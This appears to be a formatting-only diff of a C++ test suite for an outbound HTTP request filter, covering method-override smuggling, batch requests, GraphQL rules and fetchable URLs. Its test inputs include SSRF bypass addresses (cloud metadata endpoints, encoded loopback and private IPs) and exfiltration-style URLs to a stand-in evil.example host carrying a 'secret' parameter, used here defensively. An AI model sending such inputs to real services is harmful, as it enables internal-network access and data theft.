@@ -43,11 +43,11 @@ class Judgement : public ::testing::Test {
 
   static net::RequestHead head_of(std::string_view host, std::string_view type, std::string_view target = "/x",
                                   std::string_view method = "POST", std::string_view more = "") {
-    const auto head = net::parse_request_head(
-        fmt::format("{} {} HTTP/1.1\r\nHost: {}\r\n{}{}{}\r\n", method, target, host, more,
-                    type.empty() ? "" : fmt::format("Content-Type: {}\r\n", type),
-                    method == "GET" ? "" : "Transfer-Encoding: chunked\r\n"),
-        net::RequestPlace::origin);
+    const auto head =
+        net::parse_request_head(fmt::format("{} {} HTTP/1.1\r\nHost: {}\r\n{}{}{}\r\n", method, target, host, more,
+                                            type.empty() ? "" : fmt::format("Content-Type: {}\r\n", type),
+                                            method == "GET" ? "" : "Transfer-Encoding: chunked\r\n"),
+                                net::RequestPlace::origin);
     EXPECT_TRUE(head) << head.error().message();
     return *head;
   }
@@ -92,12 +92,14 @@ class Judgement : public ::testing::Test {
 // ---- requests that hide in others ----
 
 TEST_F(Judgement, RefusesAMethodOverrideWhereMethodsAreLimited) {
-  EXPECT_THAT(ask("limited.example", "/x", "X-HTTP-Method-Override: DELETE\r\n").stopped, HasSubstr("X-HTTP-Method-Override"));
+  EXPECT_THAT(ask("limited.example", "/x", "X-HTTP-Method-Override: DELETE\r\n").stopped,
+              HasSubstr("X-HTTP-Method-Override"));
   EXPECT_THAT(ask("limited.example", "/x?_method=DELETE").stopped, HasSubstr("_method"));
   EXPECT_THAT(post("limited.example", kForm, "a=1&_method=delete").stopped, HasSubstr("form field _method"));
   EXPECT_THAT(post("limited.example", kJson, R"({"_method":"DELETE"})").stopped, HasSubstr("_method"));
   EXPECT_THAT(post("limited.example", "multipart/form-data; boundary=b",
-                   "--b\r\nContent-Disposition: form-data; name=\"_method\"\r\n\r\nPUT\r\n--b--\r\n").stopped,
+                   "--b\r\nContent-Disposition: form-data; name=\"_method\"\r\n\r\nPUT\r\n--b--\r\n")
+                  .stopped,
               HasSubstr("_method"));
   EXPECT_EQ(ask("free.example", "/x?_method=DELETE", "X-HTTP-Method-Override: DELETE\r\n").stopped, "");
   EXPECT_EQ(post("free.example", kForm, "a=1&_method=delete").bytes, "a=1&_method=delete");
@@ -108,7 +110,8 @@ TEST_F(Judgement, RefusesBatchesWhereMethodsAreLimited) {
   EXPECT_THAT(post("limited.example", kJson, batch).stopped, HasSubstr("batch of 1"));
   EXPECT_THAT(post("limited.example", "", batch).stopped, HasSubstr("batch"));
   EXPECT_THAT(post("limited.example", "multipart/mixed; boundary=b",
-                   "--b\r\nContent-Type: application/http\r\n\r\nDELETE /x HTTP/1.1\r\n\r\n\r\n--b--\r\n").stopped,
+                   "--b\r\nContent-Type: application/http\r\n\r\nDELETE /x HTTP/1.1\r\n\r\n\r\n--b--\r\n")
+                  .stopped,
               HasSubstr("batch"));
   EXPECT_EQ(post("free.example", kJson, batch).bytes, batch);
   const std::string rpc = R"([{"jsonrpc":"2.0","id":1,"method":"a"}])";
@@ -118,7 +121,8 @@ TEST_F(Judgement, RefusesBatchesWhereMethodsAreLimited) {
 TEST_F(Judgement, RefusesWhatItCanNotReadWhereMethodsAreLimited) {
   EXPECT_THAT(post("limited.example", kForm, "a=%zz").stopped, HasSubstr("can't be read"));
   EXPECT_THAT(post("limited.example", kJson, R"({"a":1,"a":2})").stopped, HasSubstr("can't be read"));
-  EXPECT_THAT(post("limited.example", "multipart/form-data; boundary=b", "--b\r\n").stopped, HasSubstr("can't be read"));
+  EXPECT_THAT(post("limited.example", "multipart/form-data; boundary=b", "--b\r\n").stopped,
+              HasSubstr("can't be read"));
   EXPECT_EQ(post("limited.example", "image/png", "\x89PNG").bytes, "\x89PNG");
 }
 
@@ -136,21 +140,24 @@ TEST_F(Judgement, RefusesALongFormOnlyWhereMethodsAreLimited) {
 TEST_F(Judgement, LetsTheGraphqlPassThatARuleNames) {
   const std::string query = R"({"query":"{ viewer { login } __typename }"})";
   EXPECT_EQ(post("graph.example", kJson, query).bytes, query);
-  EXPECT_EQ(post("graph.example", "application/graphql", "query A { viewer { id } }").bytes, "query A { viewer { id } }");
+  EXPECT_EQ(post("graph.example", "application/graphql", "query A { viewer { id } }").bytes,
+            "query A { viewer { id } }");
   EXPECT_EQ(ask("graph.example", "/graphql?query=%7Bviewer%7Bid%7D%7D").stopped, "");
 }
 
 TEST_F(Judgement, RefusesOtherGraphql) {
-  for (const char* body : {R"({"query":"mutation { deleteRepo { id } }"})", R"({"query":"{ viewer { id } users { id } }"})",
-                           R"({"query":"{ viewer: users { id } }"})", R"({"query":"{ ...f } fragment f on Query { users { id } }"})",
-                           R"([{"query":"{ viewer { id } }"},{"query":"{ users { id } }"}])", R"({"query":"{ __schema { types } }"})"})
+  for (const char* body :
+       {R"({"query":"mutation { deleteRepo { id } }"})", R"({"query":"{ viewer { id } users { id } }"})",
+        R"({"query":"{ viewer: users { id } }"})", R"({"query":"{ ...f } fragment f on Query { users { id } }"})",
+        R"([{"query":"{ viewer { id } }"},{"query":"{ users { id } }"}])", R"({"query":"{ __schema { types } }"})"})
     EXPECT_THAT(post("graph.example", kJson, body).stopped, HasSubstr("does not allow the GraphQL operation")) << body;
   EXPECT_THAT(ask("graph.example", "/graphql?query=%7Busers%7Bid%7D%7D").stopped, HasSubstr("users"));
 }
 
 TEST_F(Judgement, RefusesGraphqlWhoseTextItDoesNotSee) {
-  EXPECT_THAT(post("graph.example", kJson, R"({"extensions":{"persistedQuery":{"version":1,"sha256Hash":"ab"}}})").stopped,
-              HasSubstr("persisted"));
+  EXPECT_THAT(
+      post("graph.example", kJson, R"({"extensions":{"persistedQuery":{"version":1,"sha256Hash":"ab"}}})").stopped,
+      HasSubstr("persisted"));
   EXPECT_THAT(post("graph.example", kJson, R"({"id":"17"})").stopped, HasSubstr("persisted"));
   for (const char* body : {"{", "{}", "[]", R"({"query":"{ viewer"})"})
     EXPECT_THAT(post("graph.example", kJson, body).stopped, HasSubstr("GraphQL")) << body;
@@ -171,12 +178,16 @@ TEST_F(Judgement, LetsAnyGraphqlPassWhereAnotherRuleDoes) {
 // ---- URLs that the receiver fetches ----
 
 TEST_F(Judgement, RefusesForbiddenAddressesThatAReceiverMayFetch) {
-  for (const char* url : {"http://169.254.169.254/latest/", "http://[::ffff:10.0.0.1]/", "http://2130706433/", "http://0x7f.1/",
-                          "http://metadata.google.internal/", "http://localhost:8080/x", "http://files.example@127.0.0.1/",
-                          "http://files.example\\@10.1.2.3/"}) {
-    const std::string escaped = std::string(url).find('\\') == std::string::npos ? url : "http://files.example\\\\@10.1.2.3/";
-    EXPECT_THAT(post("free.example", kJson, fmt::format(R"({{"webhook":"{}"}})", escaped)).stopped, HasSubstr("would fetch")) << url;
-    EXPECT_THAT(post("free.example", kForm, fmt::format("callback_url={}", url)).stopped, HasSubstr("would fetch")) << url;
+  for (const char* url : {"http://169.254.169.254/latest/", "http://[::ffff:10.0.0.1]/", "http://2130706433/",
+                          "http://0x7f.1/", "http://metadata.google.internal/", "http://localhost:8080/x",
+                          "http://files.example@127.0.0.1/", "http://files.example\\@10.1.2.3/"}) {
+    const std::string escaped =
+        std::string(url).find('\\') == std::string::npos ? url : "http://files.example\\\\@10.1.2.3/";
+    EXPECT_THAT(post("free.example", kJson, fmt::format(R"({{"webhook":"{}"}})", escaped)).stopped,
+                HasSubstr("would fetch"))
+        << url;
+    EXPECT_THAT(post("free.example", kForm, fmt::format("callback_url={}", url)).stopped, HasSubstr("would fetch"))
+        << url;
   }
   EXPECT_THAT(ask("free.example", "/proxy?url=http%3A%2F%2F10.0.0.1%2F").stopped, HasSubstr("10.0.0.1"));
   EXPECT_THAT(ask("free.example", "/proxy?x=%zz&url=http://10.0.0.1/").stopped, HasSubstr("10.0.0.1"));
@@ -195,16 +206,20 @@ TEST_F(Judgement, LetsAForbiddenAddressPassThatARuleNames) {
 
 TEST_F(Judgement, RefusesWhatAnApiCertainlyFetchesAndNoRuleAllows) {
   const auto chat = [](std::string_view url) {
-    return fmt::format(R"({{"model":"m","messages":[{{"role":"user","content":[{{"type":"image_url","image_url":{{"url":"{}"}}}}]}}]}})", url);
+    return fmt::format(
+        R"({{"model":"m","messages":[{{"role":"user","content":[{{"type":"image_url","image_url":{{"url":"{}"}}}}]}}]}})",
+        url);
   };
   EXPECT_THAT(post("free.example", kJson, chat("https://evil.example/x?d=secret"), "/v1/chat/completions").stopped,
               HasSubstr("evil.example:443"));
   EXPECT_EQ(post("free.example", kJson, chat("https://files.example/x.png"), "/v1/chat/completions").stopped, "");
   EXPECT_THAT(post("free.example", kJson, chat("https://files.example:8443/x.png")).stopped, HasSubstr("8443"));
   EXPECT_EQ(post("free.example", kJson, chat("data:image/png;base64,AAAA")).stopped, "");
-  EXPECT_THAT(post("free.example", kJson, R"({"tools":[{"type":"mcp","server_url":"https://evil.example/mcp"}]})").stopped,
-              HasSubstr("evil.example"));
-  EXPECT_THAT(post("free.example", kJson, chat("https://files.example%2f@evil.example/")).stopped, HasSubstr("would fetch"));
+  EXPECT_THAT(
+      post("free.example", kJson, R"({"tools":[{"type":"mcp","server_url":"https://evil.example/mcp"}]})").stopped,
+      HasSubstr("evil.example"));
+  EXPECT_THAT(post("free.example", kJson, chat("https://files.example%2f@evil.example/")).stopped,
+              HasSubstr("would fetch"));
 }
 
 TEST_F(Judgement, LogsWhatAReceiverMayFetchAndNoRuleAllows) {
@@ -225,12 +240,15 @@ TEST_F(Judgement, LetsAConversationSpeakOfPlacesThatNobodyFetches) {
   // The API's own field is fetched all the same.
   EXPECT_THAT(post("free.example", kJson,
                    R"({"model":"m","max_tokens":9,"messages":[{"role":"user","content":[{"type":"image","source":)"
-                   R"({"type":"url","url":"http://localhost:3000/x.png"}}]}]})", "/v1/messages").stopped,
+                   R"({"type":"url","url":"http://localhost:3000/x.png"}}]}]})",
+                   "/v1/messages")
+                  .stopped,
               HasSubstr("localhost"));
 }
 
 TEST_F(Judgement, LetsABrowserBeSentBackToALoopbackAddress) {
-  EXPECT_EQ(ask("free.example", "/authorize?client_id=a&redirect_uri=http%3A%2F%2Flocalhost%3A1455%2Fcallback").stopped, "");
+  EXPECT_EQ(ask("free.example", "/authorize?client_id=a&redirect_uri=http%3A%2F%2Flocalhost%3A1455%2Fcallback").stopped,
+            "");
   EXPECT_EQ(post("free.example", kForm, "redirect_uri=http://127.0.0.1:9/cb").stopped, "");
   EXPECT_EQ(post("free.example", kJson, R"({"redirect_uris":["http://127.0.0.1:9/cb"]})").stopped, "");
   EXPECT_THAT(post("free.example", kForm, "redirect_uri=http://10.0.0.1:9/cb").stopped, HasSubstr("10.0.0.1"));
@@ -270,7 +288,9 @@ TEST_F(Judgement, JudgesABodyOfAnyLengthAndKeepsItsEndBack) {
   const std::string images = std::string(12 * 1024 * 1024, 'A');
   const std::string spaces = std::string(6 * 1024 * 1024, ' ');
   const auto body = [&](std::string_view url) {
-    return fmt::format(R"({{"model":"m","input":[{{"image":"{}"}}],{}"x":[{{"type":"input_image","image_url":"{}"}}]}})", images, spaces, url);
+    return fmt::format(
+        R"({{"model":"m","input":[{{"image":"{}"}}],{}"x":[{{"type":"input_image","image_url":"{}"}}]}})", images,
+        spaces, url);
   };
   const auto refused = send(head_of("free.example", kJson, "/v1/responses"), body("http://evil.example/"), 65536);
   EXPECT_THAT(refused.stopped, HasSubstr("evil.example"));
